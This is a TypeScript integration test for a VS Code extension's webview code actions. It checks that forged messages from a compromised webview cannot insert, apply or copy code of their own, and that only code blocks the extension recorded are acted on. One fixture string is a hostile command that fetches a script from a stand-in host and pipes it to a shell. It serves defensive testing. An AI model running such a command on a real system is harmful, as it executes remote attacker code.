// Copy, Insert and Apply from a webview, inside a real VS Code, through the hosts' real message
// entry points (the chat view's and the answer panel's): a message that carries code (as they all
// did before) changes nothing; a message naming a block of a recorded answer acts on that block's
// code, read by the extension from its own record; an answer or block that does not exist does nothing.
import * as assert from 'assert';
import * as vscode from 'vscode';
import type { WebviewToExtension } from '../../src/protocol';
import { flashlight, openFixture, waitFor } from './support';

const hostile = 'require("child_process").exec("curl evil | sh");\n';
const answerText = 'Use this:\n\n```ts\nconst fixed = 1;\n```\n\nor, shorter:\n\n- ```ts\n  const short = 2;\n  ```\n';

const settle = () => new Promise((resolve) => setTimeout(resolve, 400));

async function clipboardBecomes(expected: string): Promise<void> {
  const until = Date.now() + 5_000;
  let seen = '';
  while (Date.now() < until) {
    seen = await vscode.env.clipboard.readText();
    if (seen === expected) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  assert.strictEqual(seen, expected, 'the clipboard');
}

function diffTabs(): number {
  return vscode.window.tabGroups.all
    .flatMap((group) => group.tabs)
    .filter((tab) => tab.input instanceof vscode.TabInputTextDiff && tab.input.modified.scheme === 'flashlight-proposal').length;
}

/** What a compromised webview could post: code of its own, and names of nothing the extension recorded. */
function forged(turnId: string, userTurnId: string, requestId: number): WebviewToExtension[] {
  return [
    { type: 'insertCode', code: hostile },
    { type: 'applyCode', code: hostile, language: 'ts' },
    { type: 'copy', text: hostile },
    { type: 'insertCode', code: hostile, answer: { turnId }, block: 9 },
    { type: 'insertCode', answer: { turnId: 'no-such-turn' }, block: 0 },
    { type: 'insertCode', answer: { turnId: userTurnId }, block: 0 },
    { type: 'insertCode', answer: { requestId }, block: 0 }, // the chat's answers are named by turn
    { type: 'insertCode', answer: { turnId }, block: 2 },
    { type: 'insertCode', answer: { turnId }, block: -1 },
    { type: 'insertCode', answer: { turnId }, block: 0.5 },
    { type: 'insertCode', answer: { turnId, requestId }, block: 0 },
    { type: 'applyCode', answer: { turnId }, block: 2 },
    { type: 'copy', answer: { turnId: 'no-such-turn' } },
    { type: 'copy', answer: { turnId }, block: 7 },
  ] as unknown as WebviewToExtension[];
}

describe('Code block actions from a webview', function () {
  this.timeout(60_000);

  beforeEach(async () => {
    const { server, api } = await flashlight();
    server.reset();
    api.postFromChat({ type: 'chatNew' });
    await waitFor('a new chat', () => api.chat().turns.length === 0);
  });

  it('chat: code the webview sends is never inserted, applied or copied; the block it names is, from the record', async () => {
    const { server, api } = await flashlight();
    server.enqueue({ text: answerText });
    api.postFromChat({ type: 'chatSend', text: 'Fix it', contextIds: [], imageIds: [] });
    const turn = await waitFor(
      'the answer',
      () => {
        const last = api.chat().turns.at(-1);
        return last?.role === 'assistant' && last.answer.state === 'done' && !api.chatBusy() ? last : undefined;
      },
      20_000,
    );
    const userTurn = api.chat().turns[0];
    const editor = await openFixture('let value = 0;\n', 'typescript');
    editor.selection = new vscode.Selection(1, 0, 1, 0);
    await vscode.env.clipboard.writeText('before');
    const tabsBefore = diffTabs();

    for (const message of forged(turn.id, userTurn.id, turn.answer.requestId)) api.postFromChat(message);
    await settle();
    assert.strictEqual(editor.document.getText(), 'let value = 0;\n', 'the editor is untouched');
    assert.strictEqual(diffTabs(), tabsBefore, 'no diff was offered');
    assert.strictEqual(await vscode.env.clipboard.readText(), 'before', 'the clipboard is untouched');

    api.postFromChat({ type: 'insertCode', answer: { turnId: turn.id }, block: 1 });
    await waitFor('the named block inserted', () => editor.document.getText() === 'let value = 0;\nconst short = 2;');
    api.postFromChat({ type: 'copy', answer: { turnId: turn.id }, block: 0 });
    await clipboardBecomes('const fixed = 1;');
    api.postFromChat({ type: 'copy', answer: { turnId: turn.id } });
    await clipboardBecomes(answerText);
  });

  it("panel: Insert and Apply name the panel's answer by its request; code sent, or another request, does nothing", async () => {
    const { server, api } = await flashlight();
    server.enqueue({ text: answerText });
    const editor = await openFixture('function f() {\n  return 1;\n}\n', 'typescript');
    editor.selection = new vscode.Selection(1, 0, 1, 11);
    await vscode.commands.executeCommand('flashlight.explainSelection');
    const answer = await waitFor('the panel answer', () => (api.panelAnswer()?.state === 'done' ? api.panelAnswer() : undefined), 20_000);
    await vscode.window.showTextDocument(editor.document, vscode.ViewColumn.One);
    editor.selection = new vscode.Selection(1, 0, 1, 11);
    await vscode.env.clipboard.writeText('before');
    const tabsBefore = diffTabs();

    const forgedForPanel = [
      { type: 'insertCode', code: hostile },
      { type: 'applyCode', code: hostile, language: 'ts' },
      { type: 'copy', text: hostile },
      { type: 'insertCode', answer: { requestId: answer.requestId + 1 }, block: 0 },
      { type: 'insertCode', answer: { turnId: 'x' }, block: 0 },
      { type: 'insertCode', answer: { requestId: answer.requestId }, block: 2 },
      { type: 'copy', answer: { requestId: answer.requestId - 1 } },
    ] as unknown as WebviewToExtension[];
    for (const message of forgedForPanel) api.postFromPanel(message);
    await settle();
    assert.strictEqual(editor.document.getText(), 'function f() {\n  return 1;\n}\n', 'the editor is untouched');
    assert.strictEqual(diffTabs(), tabsBefore, 'no diff was offered');
    assert.strictEqual(await vscode.env.clipboard.readText(), 'before', 'the clipboard is untouched');

    api.postFromPanel({ type: 'applyCode', answer: { requestId: answer.requestId }, block: 0 });
    await waitFor('the diff of the named block', () => diffTabs() > tabsBefore);
    assert.strictEqual(editor.document.getText(), 'function f() {\n  return 1;\n}\n', 'nothing is written before Accept');
    await vscode.commands.executeCommand('flashlight.rejectSuggestion');
    api.postFromPanel({ type: 'copy', answer: { requestId: answer.requestId }, block: 1 });
    await clipboardBecomes('const short = 2;');
  });
});
